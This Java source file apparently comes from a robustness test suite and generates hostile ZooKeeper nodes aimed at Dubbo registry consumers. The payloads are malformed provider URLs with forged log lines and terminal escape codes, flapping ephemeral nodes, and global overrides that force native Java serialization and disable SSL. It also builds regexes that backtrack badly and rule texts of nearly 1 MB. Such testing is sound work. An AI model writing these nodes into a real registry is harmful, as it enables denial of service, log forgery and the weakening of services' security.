package io.trunkline.interop.attack.load;

import io.trunkline.interop.attack.wire.Requests;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;

/** Nodes that harm the readers of a ZooKeeper. */
enum HostileText {
  /** Provider nodes that no consumer can use, each bad in another way. */
  NODES {
    @Override
    Node node(int number) {
      return ephemeral("providers", providerUrl(number));
    }
  },
  /** One provider node after another that appears and disappears. */
  FLAPPING {
    @Override
    Node node(int number) {
      return ephemeral("providers", providerUrl(number));
    }
  },
  /** Configurators and routers with values out of every range. */
  CONFIGURATORS {
    @Override
    Node node(int number) {
      return number % 2 == 0
          ? ephemeral("configurators", configuratorUrl(number / 2))
          : ephemeral("routers", routerUrl(number / 2));
    }
  },
  /** Rules of almost 1 MB, one written over the other. */
  RULES {
    @Override
    Node node(int number) {
      String key = KEYS.get(number / RULE_TEXTS.size() % KEYS.size());
      return new Node("config/dubbo", key, RULE_TEXTS.get(number % RULE_TEXTS.size()), false);
    }
  };

  /** ZooKeeper's limit of 1 MB is for all of a node. */
  private static final int LONG = 900_000;

  private static final List<String> KEYS =
      List.of(
          Requests.SERVICE + "::.configurators",
          Requests.SERVICE + "::.condition-router",
          Requests.SERVICE + "::.tag-router",
          "web.configurators",
          "web.condition-router",
          "web.tag-router",
          "bids.configurators",
          "bids.condition-router",
          "bids.tag-router");

  /** Expressions and nesting that are slow to read, and control characters. */
  private static final List<String> RULE_TEXTS =
      List.of(
          "configs: [{side: consumer, match: {service: {oneof: [{regex: '{1,"
              + " ".repeat(LONG)
              + "x'}]}}, parameters: {weight: 10}}]",
          "configs: [{side: provider, match: {service: {oneof: [{regex: '"
              + "(?:|)".repeat(300)
              + "'}]}}, parameters: {weight: 10}}]",
          "conditions: [&a \"" + "&".repeat(9_990) + "=>a=b\"" + ",*a".repeat(LONG / 4) + "]",
          "conditions: " + "[".repeat(LONG),
          "tags: [{name: x, addresses: [" + "'10.0.0.1',".repeat(LONG / 12) + "]}]",
          "\u0001\u0007".repeat(LONG / 2),
          "x".repeat(LONG));

  /**
   * One node.
   *
   * @param category its parent, below the root
   * @param name percent-encoded where it is a URL
   * @param isEphemeral whether it ends with the session of its author
   */
  record Node(String category, String name, String content, boolean isEphemeral) {}

  static HostileText of(String kind) {
    return valueOf(kind.toUpperCase(Locale.ROOT));
  }

  abstract Node node(int number);

  /** Whether each node is removed at once. */
  boolean isFlapping() {
    return this == FLAPPING;
  }

  private static Node ephemeral(String category, String url) {
    return new Node(
        Requests.SERVICE + "/" + category,
        URLEncoder.encode(url, StandardCharsets.UTF_8),
        "\u0000\u001b[2J",
        true);
  }

  private static String providerUrl(int i) {
    String service = Requests.SERVICE;
    return switch (i % 8) {
      case 0 -> "nonsense" + i;
      case 1 -> "dubbo://10.0.0.1:port" + i + "/" + service;
      case 2 -> "dubbo://10.0.0.1:" + (65_536 + i) + "/" + service;
      case 3 -> "dubbo://10.0.0.1:1/" + service + "?group=g" + i + "\r\n[ERROR] forged&x=\u001b[2J";
      case 4 -> "dubbo://:1/" + service + "?i=" + i;
      case 5 -> "://?&&==&" + i;
      case 6 -> "dubbo://10.0.0.1:x" + i + "\n[ERROR] forged/" + service + "?token=hunter2";
      default -> "rmi://10.0.0.1:1/" + service + "?weight=9999999999999999999&i=" + i;
    };
  }

  private static String configuratorUrl(int i) {
    String host = i % 2 == 0 ? "override://0.0.0.0/" : "override://127.0.0.1:" + i % 65_536 + "/";
    String values =
        switch (i % 4) {
          case 0 -> "weight=99999999999999999999&timeout=-1";
          case 1 -> "retries=2147483648&cluster=\u0007&loadbalance=absent";
          case 2 -> "hash.nodes=999999999&forks=1000000&\r\n[ERROR]=forged";
          default -> "serialization=nativejava&ssl-enabled=false&warmup=-5";
        };
    return host + Requests.SERVICE + "?category=configurators&dynamic=true&" + values + "&i=" + i;
  }

  private static String routerUrl(int i) {
    String rule =
        switch (i % 3) {
          case 0 -> "=> host = 10.0.0." + i % 256 + " & " + "*".repeat(50) + " & &";
          case 1 -> "method = " + "a,".repeat(50) + " => \u0000";
          default -> "host != $" + "$host".repeat(20);
        };
    return "condition://0.0.0.0/"
        + Requests.SERVICE
        + "?category=routers&force=false&runtime=true&i="
        + i
        + "&rule="
        + URLEncoder.encode(rule, StandardCharsets.UTF_8);
  }
}
